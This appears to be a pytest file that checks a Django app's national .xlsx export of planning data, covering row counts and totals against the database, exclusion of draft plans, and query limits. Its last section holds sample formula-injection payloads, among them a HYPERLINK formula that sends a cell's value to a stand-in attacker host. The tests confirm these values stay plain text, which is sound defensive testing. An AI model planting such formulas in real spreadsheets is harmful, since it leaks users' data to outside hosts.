"""The national dataset (.xlsx) of the demo plans: one row per plan line, totals equal to the plans' sums."""

import io
import zipfile
from collections import Counter, defaultdict
from decimal import Decimal

import openpyxl
import pytest
from django.db.models import Count, Sum
from django.urls import reverse

from accounts.models import User
from finance.models import ExpenditureAmount, ExpenditureLine, IncomeLine
from governance.dataset import national_dataset
from metrics.models import MetricAmbition, PlannedValue
from plans.models import Plan
from rounds.models import PlanningRound
from tests.recalculation import error_cells, recalculate_with_libreoffice

ONS = 1  # column of the ONS code on every sheet


def _rows(ws):
    rows = list(ws.iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    total = body[-1] if body and body[-1][0] == "Total" else None
    return header, [r for r in body if r[0] != "Total"], total


def _money(value) -> Decimal:
    return Decimal(str(value)).quantize(Decimal("0.01"))


@pytest.fixture
def submitted_demo(demo_data):
    # The demo plans are drafts; the export is of submitted plans, so mark them submitted.
    Plan.objects.update(status=Plan.Status.SUBMITTED)
    return demo_data


@pytest.mark.parametrize("round_slug", ["2014-15", "2017-19"])
def test_national_dataset_has_one_row_per_plan_line_and_totals_equal_the_plans(submitted_demo, round_slug):
    planning_round = PlanningRound.objects.get(slug=round_slug)
    plans = Plan.objects.filter(round=planning_round)
    assert plans.exists()
    wb = openpyxl.load_workbook(io.BytesIO(national_dataset(planning_round)), read_only=True)
    assert wb.sheetnames == ["Income", "Expenditure", "Metrics"]

    # Income: one row per income line, amounts per plan and in total equal to the database's sums.
    header, rows, total = _rows(wb["Income"])
    amount_col = header.index("Amount (£)")
    income = IncomeLine.objects.filter(plan__in=plans)
    assert len(rows) == income.count() > 0
    by_plan = defaultdict(Decimal)
    for row in rows:
        by_plan[row[ONS]] += _money(row[amount_col])
    expected = {
        r["plan__hwb_area__ons_code"]: r["total"]
        for r in income.values("plan__hwb_area__ons_code").annotate(total=Sum("amount")).order_by()
    }
    assert dict(by_plan) == expected
    assert _money(total[amount_col]) == income.aggregate(t=Sum("amount"))["t"]

    # Expenditure: one row per expenditure line, each year's column summing to the plans' spend.
    header, rows, total = _rows(wb["Expenditure"])
    lines = ExpenditureLine.objects.filter(plan__in=plans)
    assert len(rows) == lines.count() > 0
    assert Counter(r[ONS] for r in rows) == Counter(
        {
            r["plan__hwb_area__ons_code"]: r["n"]
            for r in lines.values("plan__hwb_area__ons_code").annotate(n=Count("id"))
        }
    )
    amounts = ExpenditureAmount.objects.filter(line__plan__in=plans)
    for year in planning_round.years.all():
        col = header.index(f"{year.label} (£)")
        expected_year = amounts.filter(year=year).aggregate(t=Sum("amount"))["t"] or Decimal(0)
        assert sum((_money(r[col] or 0) for r in rows), Decimal(0)) == expected_year
        assert _money(total[col]) == expected_year
    grand = amounts.aggregate(t=Sum("amount"))["t"]
    assert _money(total[header.index("Total (£)")]) == grand
    assert sum((_money(r[header.index("Total (£)")]) for r in rows), Decimal(0)) == grand

    # Metrics: one row per planned value (an ambition with only a baseline is one row).
    header, rows, _ = _rows(wb["Metrics"])
    ambitions = MetricAmbition.objects.filter(plan__in=plans).annotate(n=Count("planned_values"))
    assert len(rows) == sum(max(a.n, 1) for a in ambitions)
    assert len(rows) >= PlannedValue.objects.filter(ambition__plan__in=plans).count()


def test_draft_plans_are_left_out_of_the_national_dataset(demo_data):
    planning_round = PlanningRound.objects.get(slug="2017-19")
    wb = openpyxl.load_workbook(io.BytesIO(national_dataset(planning_round)), read_only=True)
    _, rows, total = _rows(wb["Income"])
    assert rows == []
    assert _money(total[-2]) == 0


def test_national_admin_downloads_the_dataset_in_a_fixed_number_of_queries(
    client, submitted_demo, django_assert_max_num_queries
):
    client.force_login(User.objects.get(email="admin@bcf.demo"))
    url = reverse("monitoring:national_dataset", kwargs={"round_slug": "2014-15"})
    client.get(url)  # the round's configuration is cached per process, as in a running server
    with django_assert_max_num_queries(12):
        response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('bcf-national-dataset-2014-15.xlsx"')
    with django_assert_max_num_queries(15):
        page = client.get(reverse("governance:national_dashboard") + "?round=2014-15")
    assert page.status_code == 200


# --- Formula injection ---------------------------------------------------------------------

HOSTILE = {
    "scheme name": '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
    "scheme reference": "=1+1",
    "income note": "+SUM(1,2)",
    "local metric": "@SUM(1,2)",
    "baseline period": "-1+2",
}


@pytest.fixture
def submitted_plan_with_hostile_text(db):
    """B&D's plan, submitted, with text typed as formulas in every kind of field the dataset shows."""
    from finance.models import IncomeLine
    from schemes.models import Scheme
    from tests import factories as f
    from tests.finance.demo_plans import build_barking_and_dagenham

    plan, _ = build_barking_and_dagenham()
    scheme = Scheme.objects.filter(plan=plan, expenditure_lines__isnull=False).first()
    Scheme.objects.filter(pk=scheme.pk).update(name=HOSTILE["scheme name"], reference=HOSTILE["scheme reference"])
    IncomeLine.objects.filter(pk=IncomeLine.objects.filter(plan=plan).first().pk).update(note=HOSTILE["income note"])
    f.MetricAmbitionFactory(
        plan=plan, local_name=HOSTILE["local metric"], baseline_period=HOSTILE["baseline period"], baseline_value=5
    )
    Plan.objects.filter(pk=plan.pk).update(status=Plan.Status.SUBMITTED)
    return plan


def test_formula_injection_in_the_national_dataset_is_stored_as_text_and_never_evaluated(
    submitted_plan_with_hostile_text, tmp_path
):
    data = national_dataset(submitted_plan_with_hostile_text.round)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in archive.read(n).decode() for n in sheets)  # the dataset has no formulas
    wb = openpyxl.load_workbook(io.BytesIO(data))
    found = {
        cell.value: (ws.title, cell)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value in HOSTILE.values()
    }
    assert set(found) == set(HOSTILE.values())
    for text, (_, cell) in found.items():
        assert cell.data_type == "s" and cell.quotePrefix, text

    # LibreOffice, recalculating as a user opening the file would, shows each text as typed.
    shown = recalculate_with_libreoffice(data, tmp_path)
    for text, (sheet, cell) in found.items():
        assert shown[sheet][cell.coordinate].value == text
    assert error_cells(shown) == []
